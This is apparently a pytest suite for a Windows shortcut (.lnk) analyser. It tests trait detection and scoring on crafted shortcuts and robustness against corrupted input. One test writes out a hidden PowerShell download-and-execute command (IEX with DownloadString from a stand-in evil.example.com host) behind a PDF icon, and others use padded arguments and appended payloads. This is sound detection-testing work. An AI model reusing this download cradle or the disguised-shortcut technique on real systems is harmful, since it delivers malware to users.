import os
import random
import struct

import pytest

from workers.lnk import lnk

CLSID = bytes.fromhex("0114020000000000c000000000000046")
HAS_RELATIVE_PATH, HAS_ARGUMENTS, HAS_ICON, UNICODE = 0x8, 0x20, 0x40, 0x80


def shortcut(path: str, arguments: str = "", icon: str = "", window: int = 1) -> bytes:
    """A shortcut as [MS-SHLLINK] lays it out: header, strings, the end of the extra data."""
    flags = HAS_RELATIVE_PATH | UNICODE | (HAS_ARGUMENTS if arguments else 0) | (HAS_ICON if icon else 0)
    made = 133_000_000_000_000_000
    times = (made, made, made, 99, 0, window, 0, 0, 0, 0)
    header = struct.pack("<I16sIIQQQIIIHHII", 0x4C, CLSID, flags, 0x20, *times)
    strings = b"".join(
        struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in (path, arguments, icon) if text
    )
    return header + strings + bytes(4)


def traits(findings):
    return {trait.name for trait in findings.result.traits}


def test_an_ordinary_shortcut(analyse):
    """Target and times are read; nothing about it is a score."""
    findings = analyse(lnk, shortcut("..\\Tools\\editor.exe", "notes.txt"))
    assert findings.result.command == "..\\Tools\\editor.exe notes.txt"
    assert findings.result.created.startswith("2022-")
    assert findings.score == -1


def test_a_shortcut_that_fetches(analyse):
    """A hidden PowerShell behind a document's icon adds up, and its address is an indicator."""
    command = (
        "-w hidden -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a')"
    )
    path = "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    findings = analyse(lnk, shortcut(path, command, "C:\\x\\report.pdf", window=7))
    assert traits(findings) >= {
        "runs-interpreter",
        "hidden-window",
        "bypasses-policy",
        "downloads",
        "runs-text-as-code",
        "icon-of-document",
        "window-minimised",
    }
    assert findings.score == 90
    assert "hxxp://evil[.]example[.]com/a" in [each.value for each in findings.result.indicators]


def test_arguments_pushed_out_of_sight(analyse):
    """A run of blanks that hides the end of the command line is a trait of its own."""
    assert traits(analyse(lnk, shortcut("a.exe", " " * 200 + "payload"))) == {"arguments-out-of-sight"}


def test_appended_data_becomes_a_child(analyse):
    """What is carried behind the shortcut is handed on."""
    payload = b"MZ" + os.urandom(4000)
    findings = analyse(lnk, shortcut("a.exe") + payload)
    assert traits(findings) == {"appended-data"}
    assert findings.children[0].path.read_bytes() == payload


def test_broken_shortcuts(analyse):
    """A broken shortcut is read as far as it goes, or refused in words."""
    content, noise = shortcut("a.exe", "b c d", "e.ico"), random.Random(6)
    broken = [b"", b"x", content[:30], content[:76]]
    for _ in range(100):
        copy = bytearray(content)
        for _ in range(5):
            copy[noise.randrange(20, len(copy))] = noise.randrange(256)
        broken.append(bytes(copy))
    refused = 0
    for each in broken:
        try:
            analyse(lnk, each)
        except ValueError as error:
            assert "broken" in str(error)  # noqa: PT017 - both ways out are right
            refused += 1
    assert 0 < refused < len(broken)


@pytest.mark.parametrize("count", [0xFFFF, 0x7FFF])
def test_a_string_longer_than_the_file(analyse, count):
    """A length that promises more than there is does no harm."""
    content = bytearray(shortcut("a.exe"))
    content[76:78] = struct.pack("<H", count)
    analyse(lnk, bytes(content))
